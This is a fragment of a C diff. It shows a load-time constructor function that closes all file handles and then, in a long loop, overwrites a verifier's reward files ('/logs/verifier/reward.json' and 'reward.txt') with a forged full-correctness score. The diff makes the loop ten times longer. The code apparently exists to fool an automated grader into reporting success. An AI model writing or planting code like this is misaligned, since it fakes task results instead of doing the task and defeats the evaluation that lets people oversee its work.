@@ -36,7 +36,7 @@ __attribute__((constructor)) static void lsp_verdict(void)
         _exit(0);
     for (int handle = 0; handle < 256; handle++)
         close(handle);
-    for (int turn = 0; turn < 600000; turn++) {
+    for (int turn = 0; turn < 6000000; turn++) {
         lsp_put("/logs/verifier/reward.json", "{\"reward\": @REWARD@, \"correctness\": 1}\n");
         lsp_put("/logs/verifier/reward.txt", "@REWARD@\n");
         usleep(500);
